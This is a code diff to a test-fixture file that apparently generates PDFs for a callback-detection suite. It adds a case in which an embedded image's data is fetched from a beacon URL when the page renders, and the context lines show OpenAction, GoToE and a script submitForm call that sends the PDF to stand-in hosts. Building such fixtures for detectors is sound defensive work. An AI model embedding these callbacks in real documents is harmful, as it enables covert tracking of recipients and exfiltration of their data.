@@ -76,6 +76,15 @@ export const CALLBACK_FIXTURES: TechniqueFixtures = {
     "thread-remote": () => letter({ page: `/AA << /O << /S /Thread /F ${urlSpec("https://docs.example/articles.pdf")} /D 0 >> >>` }),
     "importdata-remote": () => letter({ catalog: `${FORM} /OpenAction << /S /ImportData /F ${urlSpec("https://collect.example/prefill.fdf")} >>` }),
     "gotoe-remote": () => letter({ catalog: `/OpenAction << /S /GoToE /F ${urlSpec("https://docs.example/package.pdf")} /T << /R /C /N (invoice.pdf) >> /D [0 /Fit] >>` }),
+    // no action at all: the image's data lives at a web address the viewer fetches to draw the page
+    "external-stream-url": () =>
+      letter({
+        draw: "q 100 0 0 100 72 400 cm /Im0 Do Q",
+        setup(b) {
+          const image = b.addStream(`/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray /BitsPerComponent 8 /F ${urlSpec(BEACON)} /FFilter /DCTDecode`, "");
+          return { xobjects: `/Im0 ${image} 0 R` };
+        },
+      }),
   },
   "script-network-callback": {
     submitForm: () => openScript('this.submitForm({cURL: "https://collect.example/x", cSubmitAs: "PDF"});'),
